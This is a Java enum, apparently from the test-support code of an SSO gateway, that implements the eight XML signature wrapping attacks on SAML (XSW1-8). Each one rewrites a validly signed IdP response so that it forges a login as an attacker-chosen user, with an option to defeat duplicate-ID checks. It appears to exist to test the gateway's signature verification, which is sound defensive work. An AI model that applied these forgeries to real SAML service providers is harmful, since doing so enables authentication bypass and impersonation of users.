package io.jitsso.gateway.support;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight classic XML signature wrapping attacks on SAML (Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be", USENIX Security 2012), in the shapes SAML Raider applies them. Each takes
 * a response correctly signed by the IdP (XSW1-2: the Response signed; XSW3-8: the Assertion signed)
 * and rewrites it so that a verifier that checks one element but reads another would sign in
 * {@code evilNameId}.
 *
 * <p>With {@code freshIds}, every copy that would repeat an XML ID gets its own, so a duplicate-ID
 * check alone cannot be what refuses the forgery.
 */
public enum SignatureWrapping {

    XSW1("Response signed: evil Response (new ID) keeps the Signature; the signed original, unsigned, inside the Signature") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element evil = document.getDocumentElement();
            Element original = unsignedCopy(evil);
            makeEvil(evil, "_evil_response", evilNameId, freshIds);
            child(evil, DSIG, "Signature").appendChild(original);
        }
    },
    XSW2("Response signed: evil Response (new ID) keeps the Signature; the signed original, unsigned, just before it") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element evil = document.getDocumentElement();
            Element original = unsignedCopy(evil);
            makeEvil(evil, "_evil_response", evilNameId, freshIds);
            Element signature = child(evil, DSIG, "Signature");
            evil.insertBefore(original, signature);
        }
    },
    XSW3("Assertion signed: an unsigned evil Assertion (new ID) inserted before the signed original") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element original = child(document.getDocumentElement(), SAML, "Assertion");
            document.getDocumentElement().insertBefore(evilCopy(original, evilNameId, true), original);
        }
    },
    XSW4("Assertion signed: an unsigned evil Assertion (new ID) replaces it and wraps the signed original") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element response = document.getDocumentElement();
            Element original = child(response, SAML, "Assertion");
            Element evil = evilCopy(original, evilNameId, true);
            response.replaceChild(evil, original);
            evil.appendChild(original);
        }
    },
    XSW5("Assertion signed: the signed Assertion made evil (new ID, Signature kept); an unsigned copy of the original appended to the Response") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            document.getDocumentElement().appendChild(makeEvilInPlace(document, evilNameId, true));
        }
    },
    XSW6("Assertion signed: the signed Assertion made evil (new ID, Signature kept); an unsigned copy of the original inside its Signature") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element original = makeEvilInPlace(document, evilNameId, true);
            child(child(document.getDocumentElement(), SAML, "Assertion"), DSIG, "Signature").appendChild(original);
        }
    },
    XSW7("Assertion signed: an unsigned evil copy of the Assertion inside a samlp:Extensions element; the signed original untouched") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element response = document.getDocumentElement();
            Element evil = evilCopy(child(response, SAML, "Assertion"), evilNameId, freshIds);
            Element extensions = document.createElementNS(SAMLP, "samlp:Extensions");
            response.insertBefore(extensions, child(response, SAML, "Issuer").getNextSibling());
            extensions.appendChild(evil);
        }
    },
    XSW8("Assertion signed: the signed Assertion made evil (Signature kept); an unsigned copy of the original in a ds:Object of its Signature") {
        @Override
        void wrap(Document document, String evilNameId, boolean freshIds) {
            Element original = makeEvilInPlace(document, evilNameId, freshIds);
            Element object = document.createElementNS(DSIG, "ds:Object");
            child(child(document.getDocumentElement(), SAML, "Assertion"), DSIG, "Signature").appendChild(object);
            object.appendChild(original);
        }
    };

    private static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
    private static final String SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
    private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

    private final String shape;

    SignatureWrapping(String shape) {
        this.shape = shape;
    }

    /** One line: what is signed, where the evil content goes, where the signed original goes. */
    public String shape() {
        return shape;
    }

    /** Whether the attack needs the Response signed (XSW1-2) rather than the Assertion (XSW3-8). */
    public boolean wrapsTheResponse() {
        return this == XSW1 || this == XSW2;
    }

    /** The forgery: {@code signedXml} rewritten so that the identity outside the signed element is {@code evilNameId}. */
    public String forge(String signedXml, String evilNameId, boolean freshIds) {
        return ForgingSamlIdp.tamper(signedXml, document -> {
            wrap(document, evilNameId, freshIds);
            return document;
        });
    }

    abstract void wrap(Document document, String evilNameId, boolean freshIds);

    /** The evil Response of XSW1-2: new ID, the evil NameID, and (freshIds) a new ID for its assertion too. */
    private static void makeEvil(Element response, String id, String evilNameId, boolean freshIds) {
        response.setAttribute("ID", id);
        Element assertion = child(response, SAML, "Assertion");
        setNameId(assertion, evilNameId);
        if (freshIds) {
            assertion.setAttribute("ID", "_evil_assertion");
        }
    }

    /** An unsigned copy of {@code original} naming {@code evilNameId}, under a new ID when {@code newId}. */
    private static Element evilCopy(Element original, String evilNameId, boolean newId) {
        Element evil = unsignedCopy(original);
        if (newId) {
            evil.setAttribute("ID", "_evil_assertion");
        }
        setNameId(evil, evilNameId);
        return evil;
    }

    /**
     * Makes the signed assertion itself evil (Signature kept, new ID when {@code newId}); returns an
     * unsigned copy of the original for the attack to hide somewhere.
     */
    private static Element makeEvilInPlace(Document document, String evilNameId, boolean newId) {
        Element evil = child(document.getDocumentElement(), SAML, "Assertion");
        Element original = unsignedCopy(evil);
        if (newId) {
            evil.setAttribute("ID", "_evil_assertion");
        }
        setNameId(evil, evilNameId);
        return original;
    }

    /** A deep copy of {@code signed} without its own (enveloped) Signature. */
    private static Element unsignedCopy(Element signed) {
        Element copy = (Element) signed.cloneNode(true);
        Element signature = child(copy, DSIG, "Signature");
        if (signature != null) {
            copy.removeChild(signature);
        }
        return copy;
    }

    private static void setNameId(Element assertion, String value) {
        Element subject = child(assertion, SAML, "Subject");
        child(subject, SAML, "NameID").setTextContent(value);
    }

    private static Element child(Element parent, String namespace, String localName) {
        for (Node node = parent.getFirstChild(); node != null; node = node.getNextSibling()) {
            if (node instanceof Element element && namespace.equals(element.getNamespaceURI())
                    && localName.equals(element.getLocalName())) {
                return element;
            }
        }
        return null;
    }
}
